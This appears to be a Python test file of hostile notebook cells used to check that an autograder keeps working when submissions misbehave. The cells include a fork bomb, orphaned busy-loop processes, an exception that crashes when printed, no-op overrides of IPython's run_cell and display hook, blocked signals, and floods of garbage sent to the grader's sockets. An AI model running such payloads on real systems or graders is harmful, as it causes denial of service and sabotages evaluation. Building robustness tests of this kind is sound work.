# Attacks that may end in many ways; grading goes on.
# ruff: noqa

# %% an exception that cannot be shown
class Silent(Exception):
    __str__ = __repr__ = lambda self: 1 / 0


def softmax(x):
    raise Silent


# %% processes
import os


def softmax(x):
    while True:
        os.fork()


# %% processes that are left behind
import os, time


def softmax(x):
    for _ in range(40):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    return x


# %% run_cell
get_ipython().run_cell = lambda *a, **k: None

# %% the display hook
get_ipython().displayhook = lambda *a: None

# %% blocked signals
import signal

signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    pass

# %% garbage to the grader
import gc, socket, threading

for fd in range(3, 30):
    try:
        listening = socket.socket(fileno=fd)
        if listening.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):

            def flood(s=listening):
                while True:
                    talk, _ = s.accept()
                    for _ in range(1000):
                        talk.sendall(b"\xff" * 10_000)

            threading.Thread(target=flood, daemon=True).start()
    except OSError:
        pass
kernel = get_ipython().kernel
for _ in range(100):
    kernel.iopub_socket.send_multipart([b"", b"<IDS|MSG>", b"x", b"{" * 10_000, b"[" * 100_000, b"{}", b"{}"])
